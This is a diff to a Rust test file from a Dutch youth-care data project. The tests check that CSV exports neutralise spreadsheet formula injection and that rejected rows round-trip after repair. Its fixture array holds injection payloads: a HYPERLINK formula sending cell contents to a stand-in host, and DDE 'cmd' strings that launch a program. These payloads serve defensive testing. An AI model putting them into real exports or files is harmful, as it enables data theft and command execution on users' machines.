@@ -20,15 +20,29 @@ use jeugdmonitor_core::suppression::{onderdruk, Onderdrukking, OnderdruktResulta
 
 /// Names that start a formula in Excel or LibreOffice, one per character of
 /// OWASP's list, with a payload that would send data to another website.
+/// The last three differ after the reader trims them, so each is counted.
 const FORMULES: [&str; 7] = [
     "=HYPERLINK(\"https://voorbeeld.invalid/?\"&A1;\"klik\")",
     "+SUM(1+1)",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
+    "\t=2+2",
+    "\r=3+3",
+    " =4+4",
 ];
+
+/// Whether a spreadsheet could run `cel` as a formula, judged apart from the
+/// writer's own rule: it starts, perhaps after spaces, with one of OWASP's
+/// characters, unless it is made of digits, commas and points only.
+fn begint_formule(cel: &str) -> bool {
+    let zonder_teken = cel.strip_prefix(['-', '+']).unwrap_or(cel);
+    let getal = !zonder_teken.is_empty()
+        && zonder_teken.chars().all(|c| c.is_ascii_digit() || c == ',' || c == '.')
+        && zonder_teken.ends_with(|c: char| c.is_ascii_digit());
+    let eerste = cel.trim_start_matches([' ', '\u{A0}']).chars().next();
+    let tekens = ['=', '+', '-', '@', '\t', '\r', '\n'];
+    !getal && (cel.starts_with(tekens) || eerste.is_some_and(|c| tekens.contains(&c)))
+}
 
 fn lees(naam: &str, tekst: &str) -> Bestandsresultaat {
     let regio = lees_regio("regio.toml", include_str!("../../../public/content/regio.toml")).expect("regio.toml");
@@ -146,9 +160,10 @@ fn geen_cel_van_een_export_begint_een_formule() {
         std::fs::write(map.join(naam), tekst).expect("schrijven");
         for rij in cellen(tekst) {
             for cel in rij {
+                assert!(!begint_formule(&cel), "{naam}: de cel {cel:?} begint een formule");
                 assert!(!kan_formule_zijn(&cel), "{naam}: de cel {cel:?} begint een formule");
-                // The neutralised payloads are still there, as text.
-                // (The reader trims the tab, CR and spaces around a value.)
+                // The neutralised payloads are still there, as text. (The
+                // ingest reader trims the tab, CR and spaces around a value.)
                 let tekst = cel.strip_prefix('\'').unwrap_or_default().trim();
                 if FORMULES.iter().any(|f| tekst == f.trim()) {
                     *gevonden.entry(tekst.to_string()).or_default() += 1;
@@ -198,4 +213,27 @@ fn negatieve_bedragen_blijven_getallen() {
 
 fn resultaat_declaraties() -> Bestandsresultaat {
     bestanden().remove(1)
+}
+
+/// A rejected-rows file is meant to be mended and loaded again: the values
+/// the writer neutralised come back as they were, so a client `+AbC` is the
+/// same child and a provider keeps its name.
+#[test]
+fn afgewezen_regels_verbeterd_en_opnieuw_geladen_geven_de_oude_waarden() {
+    let trajecten = "client;toewijzing;gemeente;aanbieder;productcategorie;productcode;segment;begindatum;einddatum;reden_beeindiging\n\
+                     +AbC;T1;GM0243;=Zorg(1);45;45A01;4;31-02-2023;;\n\
+                     -xY;T2;GM0243;@Hulp;45;45A01;4;31-02-2023;;\n";
+    let eerst = lees("trajecten.csv", trajecten);
+    assert_eq!(eerst.afgewezen.len(), 2, "{:?}", eerst.afgewezen);
+    let hersteld = afgewezen_csv(&eerst).replace("31-02-2023", "28-02-2023");
+    assert!(hersteld.contains("\"'+AbC\""), "{hersteld}");
+    let opnieuw = lees("hersteld.csv", &hersteld);
+    assert!(opnieuw.afgewezen.is_empty(), "{:?}", opnieuw.afgewezen);
+    let data = bouw_dataset(vec![opnieuw]).dataset;
+    let mut clients: Vec<&str> = data.clients.iter().map(|c| &**c).collect();
+    clients.sort_unstable();
+    assert_eq!(clients, ["+AbC", "-xY"]);
+    let mut aanbieders: Vec<&str> = data.trajecten.iter().map(|t| &*t.aanbieder).collect();
+    aanbieders.sort_unstable();
+    assert_eq!(aanbieders, ["=Zorg(1)", "@Hulp"]);
 }
